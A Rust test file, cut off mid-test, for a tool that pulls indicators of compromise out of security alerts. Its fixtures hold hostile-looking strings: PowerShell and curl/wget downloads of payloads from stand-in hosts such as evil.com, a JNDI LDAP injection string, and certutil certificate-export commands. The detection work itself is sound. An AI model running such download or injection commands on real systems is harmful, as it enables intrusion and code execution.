//! Extraction tests on whole alerts.

use std::path::Path;

use serde_json::{Value, json};

use super::*;
use crate::alert::{Alert, Format, Limits};

fn alert(raw_log: Value, indicators: Value) -> Alert {
    let mut v = json!({
        "alert_id": "T-1",
        "timestamp": "2026-04-19T09:42:11Z",
        "source": "edr",
        "severity": "high",
        "title": "test",
    });
    v["raw_log"] = raw_log;
    v["indicators"] = indicators;
    Alert::from_value(v, Format::Native, &Limits::default()).unwrap()
}

fn scan(raw_log: Value) -> IocSet {
    extract(&alert(raw_log, json!({})), &IocConfig::default())
}

fn values(set: &IocSet, kind: IocKind) -> Vec<String> {
    set.of_kind(kind).map(|f| f.ioc.value.clone()).collect()
}

/// Values of one kind, sorted: for leaves under several keys, whose order depends on
/// serde_json's features.
fn sorted(set: &IocSet, kind: IocKind) -> Vec<String> {
    let mut v = values(set, kind);
    v.sort();
    v
}

fn text(s: &str) -> IocSet {
    scan(json!({ "message": s }))
}

#[test]
fn file_names_are_not_domains() {
    let set = scan(json!({
        "command_line": "setup.exe /quiet && start invoice.pdf && python run.py",
        "target_filename": "C:\\Users\\x\\INV-20931.com",
        "note": "opened C:\\Users\\a\\INV-20931.com then report.docx, svchost.exe, payload.ps1",
        "msg": "dumped to C:\\temp\\lsass.dmp and packed /tmp/data.zip",
        "file": { "name": "archive.zip" },
        "attachment": "notes.md",
        "scopes": "Mail.Read Mail.Send Files.ReadWrite.All User.Read",
        "ps": "$wc = New-Object System.Net.WebClient; $wc.DownloadFile($u, 'a.exe'); [System.IO]",
        "js": "child.run(x); user.name == 'bob'; event.id",
    }));
    assert_eq!(values(&set, IocKind::Domain), Vec::<String>::new());
}

#[test]
fn code_and_identifiers_are_not_indicators() {
    let set = scan(json!({
        "ScriptBlockText": "('h'+'ttp')+(':'+'//')+('quanticaelectro'+'n'+'ic')+('s.com'+'/')+'te'+('am.co'+'m')+('radi'+'osu'+'bmit.com/'+'sear')",
        "xml": "<Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">",
        "xmlns:auto-ns3": "http://schemas.microsoft.com/win/2004/08/events",
        "event": { "dataset": "windows.security" },
        "labels": { "usernames_tried": "9" },
    }));
    assert!(set.is_empty(), "{:?}", set.to_vec());
}

#[test]
fn real_domains_are_found() {
    let set = scan(json!({
        "query": "nslookup 3a9f0c71be22d84410ce.xf-telemetry-sync.net",
        "cmd": "powershell iwr evil.com/stage2 -OutFile x.ps1",
        "share": "\\\\fileserver.corp.local\\share\\data.zip",
        "image_path": "\\\\files.evil.com\\pub\\tool.exe",
        "referer": "OUTLOOK.OFFICE.COM",
        "text": "beacon to cdn.evil.org. then (update.badsite.io)",
        "unicode": "bücher.de",
    }));
    let d = values(&set, IocKind::Domain);
    for want in [
        "3a9f0c71be22d84410ce.xf-telemetry-sync.net",
        "evil.com",
        "fileserver.corp.local",
        "files.evil.com",
        "outlook.office.com",
        "cdn.evil.org",
        "update.badsite.io",
    ] {
        assert!(d.contains(&want.to_owned()), "missing {want} in {d:?}");
    }
    assert_eq!(d.len(), 7, "{d:?}");
}

#[test]
fn version_strings_times_macs_and_guids_are_not_indicators() {
    let set = text(
        "version 10.0.19041.1, FileVersion 10.0.20348.4163, v1.2.3.4, Chrome/120.0.0.0, \
         1.2.3.4.5, at 12:30:45 from 00:1A:2B:3C:4D:5E / 00:1a:2b:ff:fe:3c:4d:5e, \
         guid {5AA13A44-0252-68FD-7235-000000004002} {44d88612fea8a8f36de82e1278abb02f} \
         zero-padded 010.001.001.001, and :: alone, std::string, 2026-03-11T09:34:03Z, \
         Ver 1.2.3.4, build 5.6.7.8, Edge/124.0.2478.67, MAC 00-1A-2B-3C-4D-5E aa:bb:cc:dd:ee:ff",
    );
    assert!(set.is_empty(), "{:?}", set.to_vec());
    let set = text(&format!("long hex {}", "ab12".repeat(20)));
    assert!(set.is_empty(), "{:?}", set.to_vec());
}

#[test]
fn ips_in_text() {
    let set = text(
        "from 185.220.101.47:443 to 10.0.0.5, v6 2001:DB8:0:0:0:0:0:1 and [fe80::1%eth0]:22, \
         mapped ::ffff:8.8.8.8, net 192.168.0.0/16, end 1.1.1.1.",
    );
    assert_eq!(
        values(&set, IocKind::Ipv4),
        // the IPv4-mapped address is its IPv4 address; a CIDR network is not an address
        ["8.8.8.8", "185.220.101.47", "10.0.0.5", "1.1.1.1"]
    );
    assert_eq!(values(&set, IocKind::Ipv6), ["2001:db8::1", "fe80::1"]);
    let ip = set.iter().find(|f| f.ioc.value == "10.0.0.5").unwrap();
    assert_eq!(ip.ioc.scope, Some(Scope::Internal));
    assert_eq!(ip.origins, ["raw_log.message"]);
}

#[test]
fn urls_bring_their_host() {
    let set = text(
        "clicked (hxxps://Office365-MFA[.]security-portal[.]app/auth?x=1), then \
         http://10.0.1.14/malware.exe; and ftp://[2001:db8::5]/x.",
    );
    assert_eq!(
        values(&set, IocKind::Url),
        [
            "https://office365-mfa.security-portal.app/auth?x=1",
            "http://10.0.1.14/malware.exe",
            "ftp://[2001:db8::5]/x"
        ]
    );
    assert!(set.contains(IocKind::Domain, "office365-mfa.security-portal.app"));
    assert!(set.contains(IocKind::Ipv4, "10.0.1.14"));
    assert!(set.contains(IocKind::Ipv6, "2001:db8::5"));
    // The file name in the URL path is neither a domain nor anything else.
    assert_eq!(values(&set, IocKind::Domain).len(), 1);

    let set = text("${jndi:ldap://Evil.com:1389/a} and http://[::1 and https://");
    assert_eq!(values(&set, IocKind::Url), ["ldap://evil.com:1389/a"]);
    assert_eq!(values(&set, IocKind::Domain), ["evil.com"]);
}

#[test]
fn emails_and_message_ids() {
    let set = scan(json!({
        "from": "Billing@Invoice-Portal.EXAMPLE",
        "body": "reply to ap-desk[@]invoice-portal[.]example.",
        "message_id": "<20260311093015.4F2A1@mail.invoice-portal.example>",
    }));
    assert_eq!(
        sorted(&set, IocKind::Email),
        [
            "Billing@invoice-portal.example",
            "ap-desk@invoice-portal.example"
        ]
    );
    assert_eq!(
        values(&set, IocKind::Domain),
        ["mail.invoice-portal.example"]
    );
    // A Kerberos principal is not an e-mail address.
    let krb = text("ticket for krbtgt/CORP.LOCAL@CORP.LOCAL");
    assert!(krb.of_kind(IocKind::Email).next().is_none());
    let e = set.of_kind(IocKind::Email).next().unwrap();
    assert_eq!(e.ioc.scope, Some(Scope::Reserved));
}

#[test]
fn sysmon_hashes_field() {
    let set = scan(json!({ "event_data": {
        "Hashes": "SHA1=317E563BFC7EC87B181D5A1745E43B8F5288DBFC,MD5=A561A96624CA5CD5491BFC1609E2958A,SHA256=D5B7E8E44F37B1FBD79A79E3321244EEF946F419151374BD1BE4D6833754FED8,IMPHASH=02CB6949ACFAA0B84149D99111C16734",
        "ProcessGuid": "5AA13A44-0252-68FD-7235-000000004002",
        "LogonGuid": "{44d88612fea8a8f36de82e1278abb02f}",
        "session_id": "0123456789abcdef0123456789abcdef",
    }}));
    assert_eq!(
        values(&set, IocKind::Sha1),
        ["317e563bfc7ec87b181d5a1745e43b8f5288dbfc"]
    );
    assert_eq!(
        values(&set, IocKind::Md5),
        ["a561a96624ca5cd5491bfc1609e2958a"]
    );
    assert_eq!(
        values(&set, IocKind::Sha256),
        ["d5b7e8e44f37b1fbd79a79e3321244eef946f419151374bd1be4d6833754fed8"]
    );
    assert_eq!(set.len(), 3, "{:?}", set.to_vec());
    assert_eq!(
        set.iter().next().unwrap().origins,
        ["raw_log.event_data.Hashes"]
    );
}

#[test]
fn users_and_hosts_from_keys() {
    let set = scan(json!({
        "host": "WS-FIN-0142.corp.local",
        "user": "CORP\\jmartinez",
        "usernames_tried": ["root", "admin", "-", "", "j.ford"],
        "event_data": { "TargetUserName": "SYSTEM", "WorkstationName": "-", "SubjectUserName": "-" },
        "source": { "user": { "name": "alice" } },
        "observer": { "host": { "name": "fw01" } },
        "dst_host": "10.2.3.4",
        "destination_host": "cdn.update-mirror.net",
        "computer": "ar-win-dc.attackrange.local",
        "nested": { "user.name": "bob" },
        "note": "user root logged in",
    }));
    assert_eq!(
        sorted(&set, IocKind::User),
        [
            "CORP\\jmartinez",
            "SYSTEM",
            "admin",
            "alice",
            "bob",
            "j.ford",
            "root"
        ]
    );
    assert_eq!(
        sorted(&set, IocKind::Host),
        [
            "ar-win-dc.attackrange.local",
            "cdn.update-mirror.net",
            "fw01",
            "ws-fin-0142.corp.local"
        ]
    );
    // A host key holding an IP gives an IP; a remote host's FQDN is also a domain.
    assert!(set.contains(IocKind::Ipv4, "10.2.3.4"));
    assert!(set.contains(IocKind::Domain, "cdn.update-mirror.net"));
    // The event's own host (`host`, `computer`) is the monitored machine, not a domain
    // to look up: this used to find `ws-fin-0142.corp.local` as a domain too.
    assert!(!set.contains(IocKind::Domain, "ws-fin-0142.corp.local"));
    assert!(!set.contains(IocKind::Domain, "ar-win-dc.attackrange.local"));
    assert!(!set.contains(IocKind::Domain, "j.ford"));
    let root = set.iter().find(|f| f.ioc.value == "root").unwrap();
    assert_eq!(root.origins, ["raw_log.usernames_tried[0]"]);
}

#[test]
fn declared_and_raw_log_on_a_realistic_alert() {
    let a = alert(
        json!({
            "event_type": "file_execution",
            "host": "finance-ws-14.corp.internal",
            "user": "m.dubois",
            "process_path": "C:\\Users\\m.dubois\\AppData\\Local\\Temp\\K3H7Q2M9\\invoice_Q2_2026.exe",
            "parent_process": "OUTLOOK.EXE",
            "command_line": "invoice_Q2_2026.exe",
            "file_sha256": "275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F",
            "email_sender": "accounting@suppliersi-nvoices.com",
            "events": [
                { "type": "dns", "query": "cdn.suppliersi-nvoices.com", "answer": "203.0.113.50" },
                { "type": "net", "dst": "185.220.101.47", "url": "hxxp://suppliersi-nvoices[.]com/dl/stage2.ps1" }
            ],
            "bytes": 12345,
        }),
        json!({
            "ips": ["185.220.101.47", "2001:DB8::1", "not-an-ip"],
            "hashes": ["275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f", "xyz"],
            "users": ["m.dubois"],
            "domains": ["Suppliersi-Nvoices.com.", "https://login.evil.example/x"],
            "urls": ["hxxps://suppliersi-nvoices[.]com/pay"],
            "apps": ["e3f7a2c9-6b1d-4c8e-a5f2-9d4b7e0c3a16", "evil-app.azurewebsites.net"],
        }),
    );
    let set = extract(&a, &IocConfig::default());
    let got: Vec<(String, String)> = set
        .iter()
        .map(|f| (f.ioc.kind.to_string(), f.ioc.value.clone()))
        .collect();
    let want = [
        ("ipv4", "185.220.101.47"),
        ("ipv6", "2001:db8::1"),
        ("domain", "suppliersi-nvoices.com"),
        ("url", "https://login.evil.example/x"),
        ("domain", "login.evil.example"),
        ("url", "https://suppliersi-nvoices.com/pay"),
        (
            "sha256",
            "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f",
        ),
        ("user", "m.dubois"),
        ("domain", "evil-app.azurewebsites.net"),
        // raw_log (compared as a set: key order depends on serde_json's features)
        ("domain", "cdn.suppliersi-nvoices.com"),
        // `host` is the monitored machine: a host indicator only (it used to be a domain
        // as well).
        ("email", "accounting@suppliersi-nvoices.com"),
        ("host", "finance-ws-14.corp.internal"),
        ("ipv4", "203.0.113.50"),
        ("url", "http://suppliersi-nvoices.com/dl/stage2.ps1"),
    ];
    let want: Vec<(String, String)> = want
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect();
    assert_eq!(got.len(), want.len(), "{got:#?}");
    assert_eq!(got[..9], want[..9]);
    let mut rest = got[9..].to_vec();
    rest.sort();
    assert_eq!(rest, want[9..]);
    assert_eq!(
        set.rejected,
        [
            (
                "not-an-ip".to_owned(),
                "indicators.ips[2]".to_owned(),
                RejectReason::NotAnIndicator
            ),
            (
                "xyz".to_owned(),
                "indicators.hashes[1]".to_owned(),
                RejectReason::NotAnIndicator
            ),
        ]
    );
    assert!(!set.truncated);
    let ip = set.iter().next().unwrap();
    assert_eq!(ip.origins, ["indicators.ips[0]", "raw_log.events[1].dst"]);
    let dom = set.iter().nth(2).unwrap();
    assert_eq!(
        dom.origins,
        [
            "indicators.domains[0]",
            "indicators.urls[0]",
            "raw_log.events[1].url"
        ]
    );
    assert_eq!(
        set.iter()
            .find(|f| f.ioc.value == "203.0.113.50")
            .unwrap()
            .ioc
            .scope,
        Some(Scope::Reserved)
    );
}

#[test]
fn stops_at_max_indicators() {
    let ips: Vec<String> = (0..50).map(|i| format!("8.8.{i}.1")).collect();
    let a = alert(
        json!({ "msg": ips.join(" ") }),
        json!({ "ips": ["1.1.1.1", "1.1.1.1"] }),
    );
    let cfg = IocConfig {
        max_indicators: 10,
        ..IocConfig::default()
    };
    let set = extract(&a, &cfg);
    assert_eq!(set.len(), 10);
    assert!(set.truncated);
    let set = extract(&a, &IocConfig::default());
    assert_eq!(set.len(), 51);
    assert!(!set.truncated);
}

#[test]
fn rejected_keeps_first_twenty() {
    let bad: Vec<String> = (0..30).map(|i| format!("junk{i}")).collect();
    let set = extract(
        &alert(json!({}), json!({ "domains": bad })),
        &IocConfig::default(),
    );
    assert_eq!(set.rejected.len(), 20);
    assert_eq!(
        set.rejected[0],
        (
            "junk0".to_owned(),
            "indicators.domains[0]".to_owned(),
            RejectReason::NotAnIndicator
        )
    );
    assert!(set.is_empty());
}

#[test]
fn extract_text_scans_free_text() {
    let mut set = IocSet::new();
    assert!(extract_text(
        "see hxxp://evil[.]com/x",
        "title",
        &IocConfig::default(),
        &mut set
    ));
    assert_eq!(set.len(), 2);
    assert_eq!(set.iter().next().unwrap().origins, ["title"]);
}

#[test]
fn one_mebibyte_alert_extracts() {
    let line = "2026-04-20T11:16:40Z conn from 185.220.101.47:51234 to 10.0.0.5 host=ws01.corp.local \
                url=http://evil.com/a?b=c file=C:\\Users\\a\\setup.exe md5=44d88612fea8a8f36de82e1278abb02f \
                user=bob@evil.com v6=2001:db8::1 at 12:30:45 version 10.0.19041.1 Mail.Read ";
    let lines: Vec<String> = (0..4000).map(|i| format!("{line}{i}")).collect();
    let raw = json!({ "events": lines.chunks(100).map(|c| json!({ "message": c.join("\n") })).collect::<Vec<_>>() });
    let size = serde_json::to_string(&raw).unwrap().len();
    assert!(size > 900_000, "{size}");
    let a = alert(raw, json!({}));
    let set = extract(&a, &IocConfig::default());
    assert!(set.len() >= 8, "{:?}", set.to_vec());
}

/// Every sample alert available on this machine: no panic, no file names as domains.
#[test]
fn sample_alert_corpus() {
    let mut files = Vec::new();
    for dir in [
        "/work/shared/research/seed-data/data/sample_alerts",
        "/work/shared/data/alerts-dev",
    ] {
        let Ok(entries) = std::fs::read_dir(dir) else {
            println!("skipping {dir}: not present");
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            let name = p
                .file_name()
                .and_then(|n| n.to_str())
                .unwrap_or("")
                .to_owned();
            let wanted = p.extension().is_some_and(|x| x == "json")
                && (dir.ends_with("sample_alerts") || name.starts_with("DEV-"));
            if wanted {
                files.push(p);
            }
        }
    }
    if files.is_empty() {
        println!("skipping the sample alert corpus: no alert files found");
        return;
    }
    files.sort();
    let bad_suffixes = [
        ".exe", ".dll", ".pdf", ".docx", ".doc", ".ps1", ".bat", ".vbs", ".js", ".dmp", ".sys",
        ".lnk", ".hta",
    ];
    let known_files = [
        "inv-20931.com",
        "invoice_q2_2026.exe",
        "outlook.exe",
        "certutil.exe",
    ];
    let cfg = IocConfig::default();
    let mut checked = 0;
    for path in &files {
        let text = std::fs::read_to_string(path).unwrap();
        let Ok(a) = Alert::from_json(&text, &Limits::default()) else {
            println!("skipping {}: not a single alert", path.display());
            continue;
        };
        let set = extract(&a, &cfg);
        for f in set.of_kind(IocKind::Domain) {
            let d = &f.ioc.value;
            assert!(
                !bad_suffixes.iter().any(|s| d.ends_with(s)),
                "{}: domain {d} from {:?}",
                path.display(),
                f.origins
            );
            assert!(
                !known_files.iter().any(|k| d == k),
                "{}: file name {d} taken for a domain",
                path.display()
            );
        }
        checked += 1;
    }
    println!("checked {checked} sample alerts");
    assert!(checked > 0);
    check_known_alert(
        Path::new("/work/shared/data/alerts-dev/DEV-0002.json"),
        &cfg,
    );
}

/// DEV-0002: the attachment `INV-20931.com` is a file, the sender domain is not.
fn check_known_alert(path: &Path, cfg: &IocConfig) {
    let Ok(text) = std::fs::read_to_string(path) else {
        return;
    };
    let a = Alert::from_json(&text, &Limits::default()).unwrap();
    let set = extract(&a, cfg);
    assert!(!set.contains(IocKind::Domain, "inv-20931.com"));
    assert!(set.contains(IocKind::Domain, "invoice-portal.example"));
    assert!(set.contains(IocKind::Email, "billing@invoice-portal.example"));
    assert!(set.contains(IocKind::Md5, "44d88612fea8a8f36de82e1278abb02f"));
    assert!(set.contains(IocKind::Host, "ws-fin-0142.corp.local"));
}

#[test]
fn adversarial_mebibyte_strings_stay_bounded() {
    // Speed is measured by the extraction benchmark, never asserted here.
    let mib = 1 << 20;
    let cases: Vec<(&str, String)> = vec![
        ("parens", format!("http://a.com/{}", ")".repeat(mib))),
        ("ips", "1.1.1.1 ".repeat(mib / 8)),
        ("emails", "a@b.com ".repeat(mib / 8)),
        ("quoted", "'a.com'".repeat(mib / 7)),
        ("unc", "\\\\a.com".repeat(mib / 7)),
        ("urls", "http://a.com/x ".repeat(mib / 15)),
        ("defanged", "[.]".repeat(mib / 3)),
        ("colons", "ab:".repeat(mib / 3)),
        (
            "hashes",
            "certutil -store My 0123456789abcdef0123456789abcdef ".repeat(mib / 52),
        ),
        (
            "md5s",
            "x 0123456789abcdef0123456789abcdef ".repeat(mib / 35),
        ),
    ];
    for (name, s) in cases {
        let a = alert(json!({ "message": s }), json!({}));
        let set = extract(&a, &IocConfig::default());
        assert!(set.len() <= 2, "{name}: {:?}", set.to_vec());
    }
}

#[test]
fn multibyte_char_after_ipv6_bracket_does_not_panic() {
    // `split_port` used to slice one byte past `]` before checking it was `:`.
    let set = text("see http://[2001:db8::1]é");
    assert!(!set.contains(IocKind::Url, "http://[2001:db8::1]é"));
    for raw in [
        "http://[::1]é",
        "http://[::1]…",
        "http://[::1]é/x",
        "[::1]€",
    ] {
        assert_eq!(
            normalise(IocKind::Url, raw, &IocConfig::default()),
            None,
            "{raw}"
        );
        assert_eq!(url_host(raw, &IocConfig::default()), None, "{raw}");
    }
}

/// Synthetic hex of `n` digits, letters and digits mixed, distinct per `seed`.
fn hex(seed: u8, n: usize) -> String {
    (0..n)
        .map(|i| {
            let d = (i * 7 + usize::from(seed) * 3) % 16;
            char::from_digit(u32::try_from(d).unwrap(), 16).unwrap()
        })
        .collect()
}

#[test]
fn declared_import_hashes_are_rejected() {
    let (md5, sha256, imp) = (hex(1, 32), hex(2, 64), hex(3, 32));
    let (ecs_imp, spelled, both) = (hex(4, 32), hex(5, 32), hex(6, 32));
    let a = alert(
        json!({
            "event_data": {
                "Hashes": format!("MD5={},SHA256={},IMPHASH={}", md5.to_uppercase(), sha256, imp.to_uppercase()),
            },
            "process": { "pe": { "imphash": ecs_imp } },
            "events": [
                { "Hashes": format!("IMPHASH={both}") },
                { "md5": both },
            ],
        }),
        json!({ "hashes": [md5, sha256, imp, ecs_imp, format!("IMPHASH={spelled}"), both] }),
    );
    let set = extract(&a, &IocConfig::default());
    assert_eq!(values(&set, IocKind::Md5), [md5.clone(), both.clone()]);
    assert_eq!(values(&set, IocKind::Sha256), [sha256]);
    let why = RejectReason::NotAFileHash;
    assert_eq!(
        set.rejected,
        [
            (
                format!("IMPHASH={spelled}"),
                "indicators.hashes[4]".to_owned(),
                why
            ),
            (imp.clone(), "indicators.hashes[2]".to_owned(), why),
            (ecs_imp, "indicators.hashes[3]".to_owned(), why),
        ]
    );
    // Without such a label in raw_log, a declared hash is taken as it is.
    let plain = extract(
        &alert(json!({ "msg": "nothing here" }), json!({ "hashes": [imp] })),
        &IocConfig::default(),
    );
    assert_eq!(values(&plain, IocKind::Md5), [imp]);
    assert!(plain.rejected.is_empty());
}

#[test]
fn pe_version_info_is_not_scanned() {
    let set = scan(json!({
        "event_data": {
            "Image": "C:\\Tools\\fetch.exe",
            "FileVersion": "8.1.0",
            "Description": "Fetches from files.vendor-soft.net",
            "Product": "www.vendor-soft.net",
            "Company": "vendor, https://vendor-soft.net/",
            "OriginalFileName": "fetch.exe",
            "LegalCopyright": "(c) legal@vendor-soft.net 203.0.113.9",
            "InternalName": "ftp://build.vendor-soft.net/",
            "CommandLine": "fetch.exe https://evil-cdn.net/a",
        },
        "process": { "pe": { "company": "www.other-vendor.org", "description": "x.other-vendor.org" } },
        "dll.pe.product": "lib.other-vendor.org",
        // Not beside version-resource keys: an ordinary description, still scanned.
        "description": "beacon to c2.bad-host.net",
    }));
    assert_eq!(
        sorted(&set, IocKind::Domain),
        ["c2.bad-host.net", "evil-cdn.net"]
    );
    assert_eq!(values(&set, IocKind::Url), ["https://evil-cdn.net/a"]);
    assert!(set.of_kind(IocKind::Email).next().is_none());
    assert!(set.of_kind(IocKind::Ipv4).next().is_none());
}

#[test]
fn hex_in_urls_is_not_a_file_hash() {
    let (commit, blob, md5) = (hex(7, 40), hex(8, 40), hex(9, 32));
    let set = scan(json!({
        "a": format!("curl -k https://github.com/o/r/raw/{commit}/bin/x.dll -o x.dll"),
        "b": format!("curl -O \"https://raw.githubusercontent.com/o/r/{blob}/x.ps1\""),
        "c": format!("git fetch github.com/o/r/commit/{commit} and https://files.example/?id={md5}"),
    }));
    assert_eq!(
        set.iter().filter(|f| f.ioc.kind.is_hash()).count(),
        0,
        "{:?}",
        set.to_vec()
    );
    assert!(set.contains(IocKind::Domain, "github.com"));
    // A hash that is a whole file name in a path still counts.
    let set = text(&format!("C:/drop/{md5}.bin and /tmp/{blob}"));
    assert_eq!(values(&set, IocKind::Md5), [md5]);
    assert_eq!(values(&set, IocKind::Sha1), [blob]);
}

#[test]
fn certificate_serials_and_thumbprints_are_not_file_hashes() {
    let (serial, thumb, md5) = (hex(10, 32), hex(11, 40), hex(12, 32));
    let set = scan(json!({
        "CommandLine": format!("certutil  -p pw -exportPFX root {serial} c:\\cert.pfx"),
        "a": format!("c:\\x\\ct.exe /exportpfx my \"{serial}\" out.pfx"),
        "b": format!("certutil -user -store My {thumb}"),
        "c": format!("certutil -delstore Root {thumb}"),
        "d": format!("Get-ChildItem Cert:\\LocalMachine\\My\\{thumb} | Remove-Item"),
        "e": format!("Set-X -CertificateThumbprint '{thumb}'; SerialNumber: {serial}"),
        "Thumbprint": thumb,
    }));
    assert_eq!(
        set.iter().filter(|f| f.ioc.kind.is_hash()).count(),
        0,
        "{:?}",
        set.to_vec()
    );
    // `-store` of another tool, or in a command after the certutil one, is no such verb.
    let set = scan(json!({
        "a": format!("backup.exe -store {md5}"),
        "b": format!("certutil -store My & scan.exe {thumb}"),
    }));
    assert_eq!(values(&set, IocKind::Md5), [md5]);
    assert_eq!(values(&set, IocKind::Sha1), [thumb]);
}

#[test]
fn hex_joined_to_a_word_is_a_name() {
    let (sha1, sha256, md5) = (hex(13, 40), hex(14, 64), hex(15, 32));
    let set = scan(json!({
        "CurrentDirectory": format!("C:\\Users\\u\\Downloads\\cli-{sha1}\\cli-{sha1}\\"),
        "CommandLine": format!("bun C:\\Users\\u\\Downloads\\cli-{sha1}\\run.js --out {md5}-build"),
    }));
    assert_eq!(
        set.iter().filter(|f| f.ioc.kind.is_hash()).count(),
        0,
        "{:?}",
        set.to_vec()
    );
    // Labels and whole file names still count.
    for t in [
        format!("MD5={md5}"),
        format!("sha256:{sha256}"),
        format!("sha256-{sha256} md5-{md5}"),
        format!("C:\\x\\{sha256}.exe {md5}"),
        sha256.clone(),
    ] {
        let set = text(&t);
        assert!(set.iter().any(|f| f.ioc.kind.is_hash()), "{t}");
    }
}

#[test]
fn monitored_host_is_not_a_domain() {
    let set = scan(json!({
        "computer": "srv-01.lab-net.tech",
        "events": [{ "computer": "srv-02.lab-net.tech", "hostname": "srv-03.lab-net.tech" }],
        "host": { "name": "srv-04.lab-net.tech", "hostname": "srv-05.lab-net.tech" },
        "agent": { "hostname": "collector.lab-net.tech" },
        "winlog": { "computer_name": "srv-06.lab-net.tech" },
        // Remote hosts keep being domains: the server asked for, the logon's source.
        "http": { "hostname": "download.evil-site.net" },
        "event_data": { "WorkstationName": "kiosk.remote-office.net" },
    }));
    assert_eq!(
        sorted(&set, IocKind::Domain),
        ["download.evil-site.net", "kiosk.remote-office.net"]
    );
    assert_eq!(set.of_kind(IocKind::Host).count(), 9, "{:?}", set.to_vec());
    assert!(set.contains(IocKind::Host, "srv-01.lab-net.tech"));
}

#[test]
fn loopback_is_not_taken_from_text() {
    let a = alert(
        json!({
            "CommandLine": "wmic /node:\"127.0.0.1\" service list & curl http://127.0.0.1:8080/x",
            "v6": "ping 0:0:0:0:0:0:0:1 and ::ffff:127.0.0.2 then 10.0.0.7",
            "dst_host": "127.0.0.1",
        }),
        json!({ "ips": ["127.0.0.1"] }),
    );
    let set = extract(&a, &IocConfig::default());
    // The declared address is kept, internal; raw_log adds no origin to it.
    assert_eq!(values(&set, IocKind::Ipv4), ["127.0.0.1", "10.0.0.7"]);
    let lo = set.iter().next().unwrap();
    assert_eq!(lo.origins, ["indicators.ips[0]"]);
    assert_eq!(lo.ioc.scope, Some(Scope::Internal));
    assert!(set.of_kind(IocKind::Ipv6).next().is_none());
    // The URL stays an indicator; its loopback host does not.
    assert_eq!(values(&set, IocKind::Url), ["http://127.0.0.1:8080/x"]);
    let set = text("connect to 127.0.0.1:445");
    assert!(set.is_empty(), "{:?}", set.to_vec());
}

#[test]
fn product_and_company_names_alone_do_not_make_a_binary() {
    // A Sentinel/Graph-style alert: `ProductName` names the detecting product, and the
    // `Description` beside it is the alert's own text.
    let set = scan(json!({
        "ProductName": "Microsoft Defender for Endpoint",
        "CompanyName": "Contoso, reported by ops@soc-contoso.net",
        "Description": "host contacted c2.evil-domain.com at 203.0.113.77",
        // A version key without the file it describes is no binary either.
        "detail": { "FileVersion": "1.0", "Company": "beacon to relay.evil-domain.com" },
    }));
    assert_eq!(
        sorted(&set, IocKind::Domain),
        ["c2.evil-domain.com", "relay.evil-domain.com"]
    );
    assert_eq!(values(&set, IocKind::Ipv4), ["203.0.113.77"]);
    assert_eq!(values(&set, IocKind::Email), ["ops@soc-contoso.net"]);
    // Sysmon: the file (`Image`, `ImageLoaded`, `TargetFilename`) and its version
    // resource; flattened keys count under their own prefix only.
    let set = scan(json!({
        "event_data": {
            "Image": "C:\\Tools\\curl.exe",
            "OriginalFileName": "curl.exe",
            "Company": "curl, https://curl.se/",
            "CompanyName": "curl.se",
            "ProductName": "www.curl.se",
        },
        "load": { "ImageLoaded": "C:\\x\\a.dll", "FileVersion": "1.2", "Product": "dll.vendor.org" },
        "winlog.event_data.TargetFilename": "C:\\x\\b.exe",
        "winlog.event_data.OriginalFileName": "b.exe",
        "winlog.event_data.Description": "b.vendor.org",
        "alert.Description": "seen talking to c3.evil-domain.com",
    }));
    assert_eq!(sorted(&set, IocKind::Domain), ["c3.evil-domain.com"]);
    assert!(
        set.of_kind(IocKind::Url).next().is_none(),
        "{:?}",
        set.to_vec()
    );
}

#[test]
fn non_file_hash_labels_in_free_text_or_of_another_length_reject_nothing() {
    let (sha256, md5, sha1) = (hex(20, 64), hex(21, 32), hex(22, 40));
    let declared =
        |raw: Value, h: &str| extract(&alert(raw, json!({ "hashes": [h] })), &IocConfig::default());
    // A command line is free text: its labels do not speak for the declared hashes.
    for (raw, h, kind) in [
        (
            json!({ "CommandLine": format!("x.exe --ja3={sha256}") }),
            &sha256,
            IocKind::Sha256,
        ),
        (
            json!({ "CommandLine": format!("x.exe --ja3={md5}") }),
            &md5,
            IocKind::Md5,
        ),
        (
            json!({ "msg": format!("imphash: {md5}") }),
            &md5,
            IocKind::Md5,
        ),
        // A 64- or 40-digit value is no import hash or ja3, wherever it is.
        (
            json!({ "event_data": { "Hashes": format!("SHA1={sha1},IMPHASH={sha256}") } }),
            &sha256,
            IocKind::Sha256,
        ),
        (json!({ "ja3": sha1 }), &sha1, IocKind::Sha1),
        (
            json!({ "process": { "pe": { "imphash": sha256 } } }),
            &sha256,
            IocKind::Sha256,
        ),
    ] {
        let set = declared(raw.clone(), h);
        assert!(set.contains(kind, h), "{raw}: {:?}", set.to_vec());
        assert!(set.rejected.is_empty(), "{raw}: {:?}", set.rejected);
    }
    // The structured field still rejects one of the label's own length.
    let set = declared(
        json!({ "hashes": format!("MD5={sha1},IMPHASH={md5}") }),
        &md5,
    );
    assert_eq!(
        set.rejected,
        [(
            md5,
            "indicators.hashes[0]".to_owned(),
            RejectReason::NotAFileHash
        )]
    );
}

#[test]
fn hash_as_a_file_name_in_a_url_counts() {
    let (sha256, md5, commit, sha1) = (hex(23, 64), hex(24, 32), hex(25, 40), hex(26, 40));
    let set = scan(json!({
        "a": format!("curl http://evil.example/dl/{sha256}.exe -o a.exe"),
        "b": format!("wget \"https://x.example/{md5}\""),
        "c": format!("iwr https://cdn.example/p/{sha1}.tar.gz; see https://github.com/o/r/commit/{commit}"),
    }));
    assert_eq!(values(&set, IocKind::Sha256), std::slice::from_ref(&sha256));
    assert_eq!(values(&set, IocKind::Md5), std::slice::from_ref(&md5));
    assert_eq!(values(&set, IocKind::Sha1), [sha1]);
    assert!(set.contains(
        IocKind::Url,
        &format!("http://evil.example/dl/{sha256}.exe")
    ));
    // Without a scheme too; a bare 40-digit segment is a commit, a bare non-last one a
    // folder, a query value a parameter.
    let set = scan(json!({
        "a": format!("fetch evil.example/dl/{sha256}.ps1 and github.com/o/r/commit/{commit}"),
        "b": format!("https://cdn.example/{md5}/app.js https://f.example/?id={md5} http://{md5}/"),
    }));
    assert_eq!(values(&set, IocKind::Sha256), [sha256]);
    assert!(
        set.of_kind(IocKind::Sha1).next().is_none(),
        "{:?}",
        set.to_vec()
    );
